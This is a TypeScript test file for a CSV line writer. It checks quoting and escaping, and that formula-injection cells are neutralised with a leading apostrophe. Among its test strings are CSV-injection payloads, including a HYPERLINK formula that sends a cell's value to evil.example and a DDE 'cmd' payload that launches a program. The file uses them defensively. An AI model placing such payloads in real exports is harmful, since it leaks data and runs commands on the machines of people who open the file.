// CSV that any program reads and no spreadsheet executes.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../src/csv/write-csv.ts';
import { randomText, seeded } from '../message/random-text.ts';

function readBack(line: string): string[] {
  const [record] = parse(line, { record_delimiter: '\r\n' }) as string[][];
  return record ?? [];
}

describe('csvLine', () => {
  it.each([
    [['email', 'name'], 'email,name\r\n'],
    [['ada@example.org', ''], 'ada@example.org,\r\n'],
    [['Lovelace, Ada'], '"Lovelace, Ada"\r\n'],
    [['Ada; Countess'], '"Ada; Countess"\r\n'],
    [['Ada "Byron" L'], '"Ada ""Byron"" L"\r\n'],
    [['one\ntwo'], '"one\ntwo"\r\n'],
    [['one\r\ntwo'], '"one\r\ntwo"\r\n'],
    [[' Ada'], '" Ada"\r\n'],
    [['Ada '], '"Ada "\r\n'],
    [['Ädå 🦀'], 'Ädå 🦀\r\n'],
    [['2023-01', '1.5'], '2023-01,1.5\r\n'],
  ])('writes %j as %j', (cells, line) => {
    expect(csvLine(cells)).toBe(line);
  });

  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|'/c calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '=1,2',
    '="a"',
  ])('lets no spreadsheet compute %j', (cell) => {
    expect(readBack(csvLine(['ada@example.org', cell]))).toEqual(['ada@example.org', `'${cell}`]);
  });

  it.each(['a=1', 'a@example.org', '1-2', "'1", '(1)', '#1', ''])('leaves %j alone', (cell) => {
    expect(readBack(csvLine(['x', cell]))).toEqual(['x', cell]);
  });

  it('is read back cell by cell, whatever is in them', () => {
    const random = seeded(4180);
    for (let round = 0; round < 500; round++) {
      const cells = Array.from({ length: 4 }, () => `x${randomText(random, 6)}`);
      expect(readBack(csvLine(cells))).toEqual(cells);
    }
  });
});
